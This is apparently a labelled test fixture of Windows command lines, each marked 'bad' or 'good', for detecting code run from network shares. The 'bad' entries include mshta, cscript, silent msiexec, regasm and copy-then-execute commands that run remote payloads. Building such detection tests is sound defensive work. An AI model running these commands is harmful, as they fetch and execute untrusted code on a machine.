:: bad: a page with a script in it
mshta \\files.example\tools\start.hta
:: bad: a script by its host
cscript //nologo \\10.20.30.40\public\setup.vbs
:: bad: an installer
msiexec /q /i \\files.example\tools\agent.msi
:: good: nearly: a share that is only read
dir \\files.example\tools
:: good: nearly: a script of this machine
cscript //nologo C:\tools\setup.vbs
:: good: a copy to be looked at first
copy \\files.example\tools\setup.vbs C:\review\setup.vbs
:: bad: commands that lie there
cmd.exe /k < \\files.example\tools\steps.txt
:: bad: a program by its place
\\files.example\tools\start.exe /quiet
:: bad: a library, by the folder of .NET
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\regasm.exe /u \\files.example\tools\part.dll
:: bad: copied first
copy \\files.example\tools\start.exe %TEMP%\start.exe & %TEMP%\start.exe
:: good: nearly: a list that lies there is searched
findstr /i error < \\files.example\logs\today.txt
